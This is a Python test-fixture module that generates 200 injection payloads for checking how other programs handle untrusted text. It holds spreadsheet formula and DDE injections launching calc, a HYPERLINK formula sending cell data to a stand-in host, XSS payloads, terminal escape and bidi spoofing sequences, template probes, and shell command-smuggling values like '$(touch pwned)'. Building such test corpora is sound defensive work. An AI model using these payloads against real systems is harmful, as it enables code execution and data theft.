"""Two hundred texts that somebody else's program would run: formulas, HTML, terminal sequences, templates."""

from __future__ import annotations

_FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"ok")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|a!A0",
    '=1+1";=1+1',
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "\u00a0=1+1",
    '=DDE("cmd";"/C calc";"a")',
    "'=1+1",
    "%0A=1+1",
]
_HTML = [
    "<script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><script>alert(1)</script>",
    "<object data=http://x.example/x>",
    "<link rel=stylesheet href=http://x.example>",
    "<base href=http://x.example/>",
    "<meta http-equiv=refresh content=0;url=http://x.example>",
    "<!--",
    "]]>",
    "&lt;script&gt;",
    "<img src=http://x.example/p.png>",
    "<style>*{background:url(http://x.example)}</style>",
]
_TERMINAL = [
    "\x1b[31mred",
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;http://x.example\x07link\x1b]8;;\x07",
    "\x1b]52;c;YQ==\x07",
    "\x9b31m",
    "\x07bell",
    "\x08\x08\x08over",
    "a\u202egpj.exe",
    "\u2066a\u2069",
    "\u200bzero",
    "\x1bP+q\x1b\\",
    "\x7fdel",
    "\x0cff",
]
_TEMPLATES = [
    "{{7*7}}",
    "{% for x in y %}",
    "${7*7}",
    "#{7*7}",
    "%(name)s",
    "%s%s%n",
    "{0.__class__}",
    "[bold red]x[/]",
    "[link=http://x]y[/link]",
    "\\x1b[31m",
    "$(touch pwned)",
    "`touch pwned`",
    "; touch pwned",
    "| touch pwned",
    "NA;NA",
    "\\",
    "../../pwned",
    "NULL",
    "TRUE",
]
_AROUND = ["{}", "x {}", "{} y"]

KINDS = [*_FORMULAS, *_HTML, *_TERMINAL, *_TEMPLATES]
PAYLOADS = tuple(
    f"{around.format(kind)} #{n}" for n, (around, kind) in enumerate((a, k) for a in _AROUND for k in KINDS)
)[:200]
